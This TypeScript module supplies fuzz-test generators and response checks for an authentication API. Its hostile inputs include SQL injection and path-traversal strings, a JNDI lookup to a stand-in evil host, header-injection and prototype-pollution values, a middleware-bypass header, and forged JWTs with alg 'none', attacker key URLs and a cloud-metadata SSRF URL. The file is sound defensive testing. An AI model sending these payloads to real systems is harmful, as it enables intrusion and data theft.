/**
 * Hostile-input generators and response invariants for the property-based fuzz tests (issue 4).
 *
 * Requests are built the way Node's HTTP server hands them to Next.js: header values are byte
 * strings (UTF-8 arriving as Latin-1 characters) without NUL, CR or LF, which no HTTP parser
 * lets through. Everything else — garbage, huge, Unicode, control characters — is fair game.
 */
import fc from 'fast-check';
import { expect } from 'vitest';
import { ORIGIN, parseSetCookie } from './http';
import { b64url } from './jwt';

/** The fixed seed; `FUZZ_SEED=<n> npx vitest run tests/integration/fuzz.test.ts` explores others. */
export const FUZZ_SEED = Number.parseInt(process.env.FUZZ_SEED ?? '20260115', 10);

/** Text as it reaches a route handler through a real HTTP server: UTF-8 bytes as Latin-1, no NUL/CR/LF. */
export function headerSafe(text: string): string {
  return Buffer.from(text, 'utf8').toString('latin1').replace(/[\0\r\n]/g, '');
}

/** Strings that have broken parsers, databases and loggers before. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  '\u0000\u0001\u0002\u001f\u007f',
  '\t\v\f\b',
  '\ufeff',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u2066evil',
  '\u200b\u200d\u2060',
  'ＡＤＭＩＮ＠ｅｘａｍｐｌｅ．ｃｏｍ',
  'admin@example.com\u0000@evil.example',
  'a@b.c\r\nSet-Cookie: access_token=x',
  '👩‍👩‍👧‍👦'.repeat(40),
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  "x'); DELETE FROM sessions; --",
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%00%2e%2e%2f',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  'true',
  '[]',
  '{}',
];

/** Random and hostile strings: any code unit (lone surrogates included), graphemes, nasty constants, long runs. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ unit: 'binary', maxLength: 64 }), weight: 4 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 64 }), weight: 2 },
  { arbitrary: fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), maxLength: 32 }), weight: 1 },
  { arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 4 },
  {
    arbitrary: fc
      .tuple(fc.constantFrom('a', 'é', '€', '😀', '\u0000', '%', '\\', '"', 'a@b.co'), fc.integer({ min: 100, max: 6000 }))
      .map(([unit, count]) => unit.repeat(count)),
    weight: 1,
  },
);

/** A plausible but wrong-typed or hostile value for a body field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 6 },
  { arbitrary: fc.constantFrom('alice@example.com', 'mallory@example.com', ' ALICE@EXAMPLE.COM ', 'a@b', 'not-an-email', 'current', 'others', 'all'), weight: 3 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 3 },
  { arbitrary: fc.constantFrom(null, true, false, 0, -1, 1e308, -1e-308, Number.MAX_SAFE_INTEGER + 2, [], {}, [null], { length: 1e9 }), weight: 2 },
);

/** Keys a body may carry: the routes' own field names, prototype-pollution keys and random ones. */
export const bodyKey: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom('email', 'password', 'name', 'scope', 'currentPassword', 'newPassword', 'id', 'userId', 'sub', 'sid', 'role', 'isAdmin', 'refreshToken', 'accessToken'), weight: 6 },
  { arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', '__defineGetter__', 'toJSON', 'valueOf'), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 12 }), weight: 2 },
);

/** A JSON value nested `depth` levels deep (arrays, objects or a mix), as text. */
export function nestedJson(depth: number, kind: 'array' | 'object' | 'mixed', leaf = '0'): string {
  let open = '';
  let close = '';
  for (let level = 0; level < depth; level++) {
    const useArray = kind === 'array' || (kind === 'mixed' && level % 2 === 0);
    open += useArray ? '[' : '{"__proto__":';
    close = (useArray ? ']' : '}') + close;
  }
  return open + leaf + close;
}

const pollution: fc.Arbitrary<string> = fc.constantFrom(
  '{"__proto__":{"polluted":"yes","isAdmin":true,"id":"admin"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"__proto__":{"__proto__":{"polluted":"yes"}}}',
  '[{"__proto__":{"polluted":"yes"}}]',
  '{"toString":"x","valueOf":"y","hasOwnProperty":1}',
);

/**
 * A JSON object as text, built entry by entry so that `__proto__` is an own key (as JSON.parse
 * makes it) and keys may repeat.
 */
export const jsonObjectText: fc.Arbitrary<string> = fc
  .array(
    fc.tuple(
      bodyKey,
      fc.oneof(
        { arbitrary: hostileValue.map((value) => JSON.stringify(value) ?? 'null'), weight: 8 },
        { arbitrary: pollution, weight: 1 },
        { arbitrary: fc.integer({ min: 1, max: 2000 }).map((depth) => nestedJson(depth, 'mixed', '"x"')), weight: 1 },
      ),
    ),
    { maxLength: 8 },
  )
  .map((entries) => `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${value}`).join(',')}}`);

/** A raw request body: JSON of any shape, broken JSON, deep nesting, oversize text, or bytes that are not UTF-8. */
export const rawBody: fc.Arbitrary<string | Uint8Array | undefined> = fc.oneof(
  { arbitrary: jsonObjectText, weight: 8 },
  { arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value)), weight: 3 },
  { arbitrary: hostileString, weight: 3 },
  { arbitrary: pollution, weight: 1 },
  {
    arbitrary: fc.constantFrom('{', '{"email":', '{"email":"a@b.co",}', "{'email':'a@b.co'}", '\ufeff{}', '{}{}', 'null', '"str"', '1e999', '[', 'NaN', '{"a":1}\u0000'),
    weight: 2,
  },
  {
    arbitrary: fc
      .tuple(fc.integer({ min: 100, max: 8000 }), fc.constantFrom<'array' | 'object' | 'mixed'>('array', 'object', 'mixed'))
      .map(([depth, kind]) => nestedJson(depth, kind)),
    weight: 2,
  },
  // Around and far over the 16 KB cap.
  { arbitrary: fc.integer({ min: 16 * 1024 - 40, max: 16 * 1024 + 40 }).map((size) => `{"email":"${'a'.repeat(Math.max(0, size - 12))}"}`), weight: 1 },
  { arbitrary: fc.integer({ min: 17_000, max: 300_000 }).map((size) => `{"password":"${'€'.repeat(Math.floor(size / 3))}"}`), weight: 1 },
  { arbitrary: fc.uint8Array({ maxLength: 256 }), weight: 2 },
  { arbitrary: fc.constantFrom(Uint8Array.of(0xff, 0xfe, 0x7b, 0x7d), Uint8Array.of(0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d), Uint8Array.of(0xed, 0xa0, 0x80)), weight: 1 },
  { arbitrary: fc.constant(undefined), weight: 1 },
);

/** Content types, right, wrong and odd (null sends none). */
export const contentType: fc.Arbitrary<string | null> = fc.oneof(
  {
    arbitrary: fc.constantFrom<string | null>(
      'application/json',
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json;charset=utf-16le',
      ' application/json ',
      'application/json, text/plain',
      'application/json-patch+json',
      'application/jsonx',
      'application/ld+json',
      'text/plain',
      'text/plain;charset=UTF-8',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=----x',
      'text/json',
      '*/*',
      '',
      ';',
      null,
    ),
    weight: 6,
  },
  { arbitrary: hostileString.map(headerSafe), weight: 1 },
);

/** An `Origin` header: absent, ours, `null`, foreign or garbage. */
export const originHeader: fc.Arbitrary<string | undefined> = fc.oneof(
  { arbitrary: fc.constant(undefined), weight: 6 },
  { arbitrary: fc.constant(ORIGIN), weight: 2 },
  { arbitrary: fc.constantFrom('null', 'https://evil.example', 'http://localhost:3000.evil.example', 'http://LOCALHOST:3000', 'http://localhost:3000/', 'http://localhost'), weight: 2 },
  { arbitrary: hostileString.map(headerSafe), weight: 1 },
);

/** Assorted other request headers a broken client or an attacker may send. */
export const extraHeaders: fc.Arbitrary<Record<string, string>> = fc.record(
  {
    'sec-fetch-site': fc.constantFrom('same-origin', 'same-site', 'cross-site', 'none', 'CROSS-SITE', ''),
    'x-forwarded-for': hostileString.map(headerSafe),
    'x-real-ip': fc.constantFrom('127.0.0.1', '::1', '1.2.3.4, 5.6.7.8', 'unknown', "'; DROP TABLE rate_limits; --"),
    'user-agent': hostileString.map(headerSafe),
    'x-middleware-subrequest': fc.constantFrom('middleware', 'middleware:middleware:middleware:middleware:middleware', 'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware'),
    'content-length': fc.constantFrom('0', '-1', '1', 'abc', '1e9', '99999999999999999999', '16385', ' 12 '),
    'transfer-encoding': fc.constantFrom('chunked', 'gzip, chunked', 'identity'),
    accept: fc.constantFrom('text/html', '*/*', 'application/json;q=0'),
  },
  { requiredKeys: [] },
);

/** One `name=value` pair of a Cookie header. */
export function cookiePair(names: fc.Arbitrary<string>, values: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.tuple(names, values).map(([name, value]) => `${name}=${value}`), weight: 8 },
    { arbitrary: values, weight: 1 }, // no `=` at all
    { arbitrary: fc.tuple(names, values).map(([name, value]) => ` ${name} = "${value}" `), weight: 1 },
  );
}

/** The cookie names the app reads, in both deployments, plus near misses. */
export const cookieName: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc.constantFrom(
      'access_token',
      'refresh_token',
      '__Host-access_token',
      '__Host-refresh_token',
      'Access_Token',
      'refresh_token ',
      'access_token\t',
      '__proto__',
      'constructor',
    ),
    weight: 6,
  },
  { arbitrary: hostileString.map(headerSafe), weight: 1 },
);

/** Cookie values that look like ours but are not genuine: garbage, forged JWTs, refresh-shaped strings, huge. */
export function cookieValue(forged: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: hostileString.map(headerSafe), weight: 4 },
    { arbitrary: forged, weight: 3 },
    { arbitrary: fc.tuple(fc.string({ unit: fc.constantFrom(...'abcXYZ019_-'), minLength: 22, maxLength: 22 }), fc.nat(), fc.base64String()).map(([sid, gen, mac]) => `${sid}.${gen}.${mac}`), weight: 2 },
    { arbitrary: fc.integer({ min: 4000, max: 20_000 }).map((size) => 'A'.repeat(size)), weight: 1 },
    { arbitrary: fc.constantFrom('', '=', '""', 'deleted', 'a.b.c', '..', 'eyJ.eyJ.', '%00', '%E2%82%AC'), weight: 2 },
  );
}

/** A whole Cookie header: garbage, many cookies, duplicate names in any order, huge values. */
export function cookieHeader(forged: fc.Arbitrary<string>, genuine: fc.Arbitrary<string> = fc.constant('')): fc.Arbitrary<string> {
  const pair = cookiePair(cookieName, cookieValue(forged));
  return fc.oneof(
    { arbitrary: fc.array(fc.oneof({ arbitrary: pair, weight: 9 }, { arbitrary: genuine, weight: 1 }), { maxLength: 12 }).map((pairs) => pairs.filter(Boolean).join('; ')), weight: 6 },
    { arbitrary: fc.array(pair, { minLength: 100, maxLength: 400 }).map((pairs) => pairs.join(';')), weight: 1 },
    { arbitrary: hostileString.map(headerSafe), weight: 2 },
    { arbitrary: fc.constantFrom(';;;;', '=;=;=', 'access_token', 'access_token=;refresh_token=', 'a=b;'.repeat(2000)), weight: 1 },
  );
}

/** An `Authorization` header that carries no genuine access token. */
export function authorizationHeader(forged: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: forged.map((token) => `Bearer ${token}`), weight: 4 },
    { arbitrary: fc.tuple(fc.constantFrom('bearer', 'BEARER', 'Bearer  ', 'Bearer\t', 'Basic', 'Digest', 'Token', 'JWT', ''), forged).map(([scheme, token]) => `${scheme} ${token}`), weight: 2 },
    { arbitrary: fc.tuple(forged, forged).map(([a, b]) => `Bearer ${a}, Bearer ${b}`), weight: 1 },
    { arbitrary: hostileString.map((text) => headerSafe(`Bearer ${text}`)), weight: 2 },
    { arbitrary: hostileString.map(headerSafe), weight: 1 },
    { arbitrary: fc.constantFrom('Bearer', 'Bearer ', 'Bearer =', 'Bearer ....', `Bearer ${'a'.repeat(20_000)}`, 'Basic YWxpY2U6cGFzc3dvcmQ='), weight: 1 },
  );
}

// ---------------------------------------------------------------------------------------------
// Forged JWTs

export type JwtHash = 'sha256' | 'sha384' | 'sha512';

/** Odd `kid` values (checklist A3): paths, SQL, 10 KB, numbers, null, objects. */
export const oddKid: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    '../../../../../../dev/null',
    '/etc/passwd',
    '../../../../proc/self/environ',
    "' UNION SELECT 'secret' --",
    "x'; DROP TABLE sessions; --",
    '1 OR 1=1',
    'k'.repeat(10 * 1024),
    '',
    '\u0000',
    'https://evil.example/key',
    0,
    -1,
    1e308,
    null,
    true,
    {},
    { $ne: null },
    [],
    ['a'],
  ),
  hostileString,
);

const EVIL = 'https://evil.example';

/** Header parameters that must never be trusted or accepted (checklist A1–A3, A6). */
export const hostileHeaderParams: fc.Arbitrary<Record<string, unknown>> = fc.record(
  {
    jku: fc.constantFrom(`${EVIL}/jwks.json`, 'file:///etc/passwd', 'http://localhost:3000/api/auth/me'),
    x5u: fc.constantFrom(`${EVIL}/cert.pem`, 'http://169.254.169.254/latest/meta-data/'),
    jwk: fc.constantFrom<unknown>({ kty: 'oct', k: b64url('attacker-key-attacker-key-attack') }, { kty: 'RSA', n: 'AQAB', e: 'AQAB' }, 'not-a-jwk'),
    x5c: fc.constantFrom<unknown>(['MIIBszCCAVmgAwIBAgIU'], [], 'MIIB'),
    kid: oddKid,
    crit: fc.constantFrom<unknown>(['exp'], ['b64'], ['x-unknown'], [], 'exp', [1]),
    b64: fc.constantFrom<unknown>(false, true, 'false'),
    cty: fc.constantFrom('JWT', 'at+jwt', 'text/html'),
    zip: fc.constantFrom('DEF', 'gzip'),
  },
  { requiredKeys: [] },
);

/** The exact protected header the app issues (contract "Tokens"). */
export const GENUINE_HEADER = { alg: 'HS256', typ: 'at+jwt' } as const;

export interface ForgedHeader {
  /** The header's JSON text (may repeat keys). */
  text: string;
  /** The HMAC hash to sign with, matching `alg` where that makes the forgery most dangerous. */
  hash: JwtHash;
}

const ALGS: readonly unknown[] = ['none', 'None', 'NONE', 'nOnE', 'HS384', 'HS512', 'RS256', 'ES256', 'PS256', 'EdDSA', 'hs256', 'HS256 ', ' HS256', '', null, 256, ['HS256'], { alg: 'HS256' }];
const TYPS: readonly unknown[] = ['at+jwt', 'JWT', 'jwt', 'at+JWT', 'application/at+jwt', 'refresh+jwt', 'reset+jwt', 'verify+jwt', '', null, ['at+jwt']];

function hashFor(alg: unknown): JwtHash {
  if (alg === 'HS384') return 'sha384';
  if (alg === 'HS512') return 'sha512';
  return 'sha256';
}

/**
 * A protected header that differs from the genuine one in a way that must be refused: another
 * algorithm, another (or no) `typ`, or key material / `kid` / `crit` parameters.
 */
export const hostileHeader: fc.Arbitrary<ForgedHeader> = fc.oneof(
  {
    arbitrary: fc
      .record({
        alg: fc.oneof(fc.constantFrom(...ALGS), fc.constant('HS256')),
        typ: fc.option(fc.constantFrom(...TYPS), { nil: undefined }),
        extra: hostileHeaderParams,
      })
      .map(({ alg, typ, extra }) => {
        const header: Record<string, unknown> = { alg, ...(typ === undefined ? {} : { typ }), ...extra };
        // Make sure the header really is hostile: only our exact header may ever verify.
        if (alg === 'HS256' && typ === 'at+jwt' && Object.keys(extra).length === 0) header.kid = '../../dev/null';
        return { text: JSON.stringify(header), hash: hashFor(alg) };
      }),
    weight: 8,
  },
  {
    // Duplicate header keys: the parser's last-wins must not let `none` or a kid slip through.
    arbitrary: fc.constantFrom<ForgedHeader>(
      { text: '{"alg":"none","alg":"HS256","typ":"at+jwt"}', hash: 'sha256' },
      { text: '{"alg":"HS256","typ":"at+jwt","alg":"none"}', hash: 'sha256' },
      { text: '{"alg":"HS256","typ":"at+jwt","typ":"JWT"}', hash: 'sha256' },
      { text: '{"alg":"HS256","typ":"JWT","typ":"at+jwt"}', hash: 'sha256' },
      { text: '{"alg":"HS256","typ":"at+jwt","kid":"a","kid":null}', hash: 'sha256' },
      { text: '["HS256","at+jwt"]', hash: 'sha256' },
      { text: 'null', hash: 'sha256' },
      { text: '{"alg":"HS256","typ":"at+jwt"', hash: 'sha256' },
    ),
    weight: 2,
  },
);

/** How the signature segment of a forged token is made. */
export type SignatureKind = 'hmac' | 'empty' | 'spliced' | 'random' | 'truncated';

export const signatureKind: fc.Arbitrary<SignatureKind> = fc.oneof(
  { arbitrary: fc.constant<SignatureKind>('hmac'), weight: 6 },
  { arbitrary: fc.constantFrom<SignatureKind>('empty', 'spliced', 'random', 'truncated'), weight: 4 },
);

// ---------------------------------------------------------------------------------------------
// Response invariants

/** Text that would betray internals: stack frames, file paths, SQL, library errors. */
const LEAKS: readonly RegExp[] = [
  /\n\s+at /,
  /at .*\(.*:\d+:\d+\)/,
  /\.(ts|js|mjs|tsx):\d+/,
  /node_modules/,
  /\/work\/|\/home\/|\/tmp\//,
  /SQLITE/i,
  /\bselect\b.*\bfrom\b/i,
  /\binsert into\b/i,
  /\bdelete from\b/i,
  /ZodError|JOSEError|JWSInvalid|JWTInvalid|JWTClaim/,
  /TypeError|ReferenceError|SyntaxError|RangeError/,
  /"stack"|"cause"/,
  /Unexpected token|Unexpected end of JSON|in JSON at position|Maximum call stack/i,
];

const SNAKE_CASE = /^[a-z]+(?:_[a-z]+)*$/;
const FIELD_NAME = /^[A-Za-z_]{1,32}$/;

export interface CheckedResponse {
  status: number;
  text: string;
  /** Set-Cookie lines with a non-empty value. */
  issued: string[];
}

export interface ResponseExpectations {
  /** Where the request went (for failure messages). */
  label: string;
  /** This route never issues a token, whatever the status (me, logout, sessions, password). */
  neverIssues?: boolean;
  /** The only statuses the case may end in. */
  statuses?: readonly number[];
  /**
   * `oauth`: an OAuth endpoint (POST /api/auth/token), whose errors are RFC 6749 §5.2's
   * `{"error":<snake_case>,"error_description":<string>}` (its 405s keep the contract's shape).
   */
  errorShape?: 'contract' | 'oauth';
}

/**
 * The invariants every auth response keeps: never a 5xx (or 1xx/3xx); `Cache-Control: no-store`;
 * every non-2xx body is exactly `{"error":{"code":<snake_case>,"message":<string>,"fields"?}}`
 * as JSON, with no stack, path or SQL text; no failed request sets a cookie to a value; a 2xx
 * body never carries a token it set.
 */
export async function expectContractResponse(response: Response, expectations: ResponseExpectations): Promise<CheckedResponse> {
  const { label } = expectations;
  const text = await response.text();
  const status = response.status;
  const where = `${label} -> ${status} ${text.slice(0, 300)}`;
  expect(status >= 200 && status < 300 ? 'ok' : status >= 400 && status < 500 ? 'client error' : 'bad status', where).not.toBe('bad status');
  if (expectations.statuses) expect(expectations.statuses, where).toContain(status);
  expect(response.headers.get('cache-control'), where).toBe('no-store');
  expect(response.headers.has('x-powered-by'), where).toBe(false);
  for (const leak of LEAKS) expect(text, where).not.toMatch(leak);

  const issued: string[] = [];
  for (const line of response.headers.getSetCookie()) {
    const cookie = parseSetCookie(line);
    if (cookie.value !== '') issued.push(line);
    else expect(cookie.attributes.get('max-age'), `${where}: a cleared cookie expires at once: ${line}`).toBe('0');
  }

  if (status >= 400) {
    expect(issued, `${where}: a failed request issued a cookie value`).toEqual([]);
    expect(response.headers.get('content-type'), where).toMatch(/^application\/json/);
    let body: unknown;
    expect(() => (body = JSON.parse(text)), where).not.toThrow();
    expect(body !== null && typeof body === 'object' && !Array.isArray(body), where).toBe(true);
    const root = body as Record<string, unknown>;
    if (expectations.errorShape === 'oauth' && typeof root.error === 'string') {
      expect(Object.keys(root).sort(), where).toEqual(['error', 'error_description']);
      expect(SNAKE_CASE.test(root.error), `${where}: error`).toBe(true);
      expect(typeof root.error_description === 'string' && root.error_description.length > 0 && root.error_description.length < 200, `${where}: error_description`).toBe(true);
      return { status, text, issued };
    }
    expect(Object.keys(root), where).toEqual(['error']);
    const error = root.error as Record<string, unknown>;
    expect(error !== null && typeof error === 'object' && !Array.isArray(error), where).toBe(true);
    for (const key of Object.keys(error)) expect(['code', 'message', 'fields'], where).toContain(key);
    expect(typeof error.code === 'string' && SNAKE_CASE.test(error.code), `${where}: code`).toBe(true);
    expect(typeof error.message === 'string' && error.message.length > 0, `${where}: message`).toBe(true);
    if ('fields' in error) {
      const fields = error.fields;
      expect(fields !== null && typeof fields === 'object' && !Array.isArray(fields), `${where}: fields`).toBe(true);
      for (const [name, messages] of Object.entries(fields as Record<string, unknown>)) {
        // Field names are the schema's own, never echoed attacker keys.
        expect(name, where).toMatch(FIELD_NAME);
        expect(Array.isArray(messages) && messages.length > 0 && messages.every((m) => typeof m === 'string' && m.length < 200), `${where}: fields.${name}`).toBe(true);
      }
    }
  } else {
    if (expectations.neverIssues) expect(issued, `${where}: this route never issues tokens`).toEqual([]);
    if (status === 204) expect(text, where).toBe('');
    // Tokens travel only in HttpOnly cookies, never in a JSON body (checklist E26).
    for (const line of issued) expect(text, where).not.toContain(parseSetCookie(line).value);
  }
  return { status, text, issued };
}

/** Object.prototype's own keys, to prove no request polluted it. */
export function prototypeSnapshot(): string[] {
  return [Object.prototype, Array.prototype, Function.prototype].flatMap((proto) => Reflect.ownKeys(proto).map(String)).sort();
}
